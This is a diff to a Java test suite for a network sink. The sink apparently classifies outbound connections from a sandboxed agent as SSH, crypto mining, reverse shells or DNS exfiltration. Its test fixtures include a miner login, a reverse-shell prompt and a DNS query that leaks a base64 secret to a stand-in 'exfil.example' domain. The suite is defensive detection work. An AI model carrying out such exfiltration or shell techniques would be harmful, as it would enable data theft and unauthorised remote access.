@@ -3,6 +3,7 @@ package dev.ale.gateway.sink;
 import dev.ale.core.AleException;
 import dev.ale.gateway.sink.Classification.Empty;
 import dev.ale.gateway.sink.Classification.Http;
+import dev.ale.gateway.sink.Classification.Skipped;
 import dev.ale.gateway.sink.Classification.Ssh;
 import dev.ale.gateway.sink.Classification.StratumMining;
 import dev.ale.gateway.sink.Classification.Tls;
@@ -221,7 +222,14 @@ class TcpSinkTest {
         third.setSoTimeout((int) PATIENCE.toMillis());
         assertThat(third.getInputStream().read()).as("the sink hung up on the third").isEqualTo(-1);
         await().atMost(PATIENCE).until(() -> sink.counters().dropped() == 1);
-        assertThat(records).isEmpty();
+        // never silently: the third is recorded as skipped, unread, without a destination lookup
+        assertThat(records).singleElement().satisfies(skipped -> {
+            assertThat(skipped.client()).isEqualTo(third.getLocalSocketAddress());
+            assertThat(skipped.classification()).isInstanceOfSatisfying(Skipped.class,
+                    c -> assertThat(c.reason()).contains("limit of 2 connections").contains("closed unread"));
+            assertThat(skipped.destination()).isEmpty();
+        });
+        assertThat(sink.counters().classified(Skipped.class)).isEqualTo(1);
 
         InetSocketAddress firstAddress = (InetSocketAddress) first.getLocalSocketAddress();
         first.close(); // frees its slot (after close, the socket would report a wildcard address)
@@ -230,9 +238,107 @@ class TcpSinkTest {
         send(fourth, FirstBytesTest.XMRIG_LOGIN);
         assertThat(awaitRecordOf(fourth).classification()).isInstanceOf(StratumMining.class);
 
-        assertThat(recordOf((InetSocketAddress) third.getLocalSocketAddress())).isEmpty();
         assertThat(recordOf((InetSocketAddress) second.getLocalSocketAddress())).isEmpty();
         assertThat(sink.counters().accepted()).isEqualTo(4);
+    }
+
+    @Test
+    void aFloodFromOneSourceCannotCrowdOutAnother() throws IOException {
+        open(new TcpSink.Limits(LONG_DEADLINE, Duration.ofMillis(300), 16, 4));
+        List<Socket> flood = new ArrayList<>();
+        for (int i = 0; i < 6; i++) flood.add(clientGoingTo(OUTSIDE_SSH));
+        await().atMost(PATIENCE).until(() -> sink.counters().accepted() == 6);
+
+        Socket other = clientFrom(InetAddress.ofLiteral("127.0.0.2"), POOL);
+        send(other, FirstBytesTest.XMRIG_LOGIN);
+
+        assertThat(awaitRecordOf(other).classification()).isInstanceOf(StratumMining.class);
+        await().atMost(PATIENCE).until(() -> records.stream().filter(r -> r.classification() instanceof Skipped).count() == 2);
+        assertThat(records).filteredOn(r -> r.classification() instanceof Skipped)
+                .allSatisfy(r -> assertThat(r.client().getAddress()).isEqualTo(LOOPBACK))
+                .allSatisfy(r -> assertThat(((Skipped) r.classification()).reason()).contains("4 connections from one source"));
+        for (Socket s : flood.subList(0, 4)) send(s, "SSH-2.0-held\r\n");
+        await().atMost(PATIENCE).until(() -> records.stream().filter(r -> r.classification() instanceof Ssh).count() == 4);
+    }
+
+    @Test
+    void aBannerSentAfterABlankLineIsStillABanner() throws IOException {
+        open(new TcpSink.Limits(LONG_DEADLINE, 16));
+        Socket client = clientGoingTo(OUTSIDE_SSH);
+
+        send(client, "\r\n");
+        sleep(100);
+        send(client, "\r\nSSH-2.0-OpenSSH_9.6\r\n");
+
+        assertThat(awaitRecordOf(client).classification()).isEqualTo(new Ssh("SSH-2.0-OpenSSH_9.6"));
+    }
+
+    @Test
+    void aBannerSentAfterSecondsOfSilenceIsStillHeard() throws IOException {
+        open(TcpSink.Limits.DEFAULT);
+        Socket client = clientGoingTo(OUTSIDE_SSH);
+
+        sleep(3_000);
+        send(client, "SSH-2.0-late\r\n");
+
+        assertThat(awaitRecordOf(client).classification()).isEqualTo(new Ssh("SSH-2.0-late"));
+    }
+
+    @Test
+    void aBannerTrickledOneByteAtATimeIsGatheredWhole() throws IOException {
+        open(TcpSink.Limits.DEFAULT);
+        Socket client = clientGoingTo(OUTSIDE_SSH);
+
+        for (byte b : "SSH-2.0-trickle\r\n".getBytes(StandardCharsets.US_ASCII)) {
+            client.getOutputStream().write(b);
+            client.getOutputStream().flush();
+            sleep(120); // the whole banner takes about 2 s, past the old 1.5 s deadline
+        }
+
+        SinkRecord record = awaitRecordOf(client);
+        assertThat(record.classification()).isEqualTo(new Ssh("SSH-2.0-trickle"));
+        assertThat(record.bytesRead()).isEqualTo(17);
+    }
+
+    @Test
+    void aMinerLoginInSlowPiecesIsMining() throws IOException {
+        open(TcpSink.Limits.DEFAULT);
+        Socket client = clientGoingTo(POOL);
+        byte[] login = FirstBytesTest.XMRIG_LOGIN.getBytes(StandardCharsets.UTF_8);
+
+        for (int at = 0; at < login.length; at += 12) {
+            client.getOutputStream().write(login, at, Math.min(12, login.length - at));
+            client.getOutputStream().flush();
+            sleep(150);
+        }
+
+        assertThat(awaitRecordOf(client).classification()).isInstanceOf(StratumMining.class);
+    }
+
+    /** After a settled benign reading the sink lingers: a protocol sent right after an HTTP-looking head is heard. */
+    @Test
+    void aBannerRightAfterAnHttpHeadIsHeard() throws IOException {
+        open(TcpSink.Limits.DEFAULT);
+        Socket client = clientGoingTo(OUTSIDE_SSH);
+
+        send(client, "GET / HTTP/1.1\r\nHost: cdn.example.com\r\n\r\n");
+        sleep(100);
+        send(client, "SSH-2.0-OpenSSH_9.6\r\n");
+
+        assertThat(awaitRecordOf(client).classification()).isEqualTo(new Ssh("SSH-2.0-OpenSSH_9.6"));
+    }
+
+    @Test
+    void aShellPromptIsAReverseShellAndADnsQueryOverTcpIsDns() throws IOException {
+        open(TcpSink.Limits.DEFAULT);
+        Socket shell = clientGoingTo(OUTSIDE_SSH);
+        Socket resolver = clientGoingTo(new OriginalDestination(InetAddress.ofLiteral("192.0.2.53"), 53));
+
+        send(shell, "bash: no job control in this shell\nagent@sandbox:~$ ");
+        resolver.getOutputStream().write(FirstBytesCorpus.dnsOverTcp("c2VjcmV0.exfil.example"));
+
+        assertThat(awaitRecordOf(shell).classification()).isInstanceOf(Classification.ReverseShell.class);
+        assertThat(awaitRecordOf(resolver).classification()).isEqualTo(new Classification.Dns("c2vjcmv0.exfil.example", "TXT"));
     }
 
     @Test
@@ -349,6 +455,24 @@ class TcpSinkTest {
         client.connect(sink.address(), (int) PATIENCE.toMillis());
         client.setSoTimeout((int) PATIENCE.toMillis());
         return client;
+    }
+
+    private Socket clientFrom(InetAddress from, OriginalDestination destination) throws IOException {
+        Socket client = new Socket();
+        clients.add(client);
+        client.bind(new InetSocketAddress(from, 0));
+        conntrack.put((InetSocketAddress) client.getLocalSocketAddress(), destination);
+        client.connect(sink.address(), (int) PATIENCE.toMillis());
+        client.setSoTimeout((int) PATIENCE.toMillis());
+        return client;
+    }
+
+    private static void sleep(long millis) {
+        try {
+            Thread.sleep(millis);
+        } catch (InterruptedException e) {
+            Thread.currentThread().interrupt();
+        }
     }
 
     private Socket connect() throws IOException {
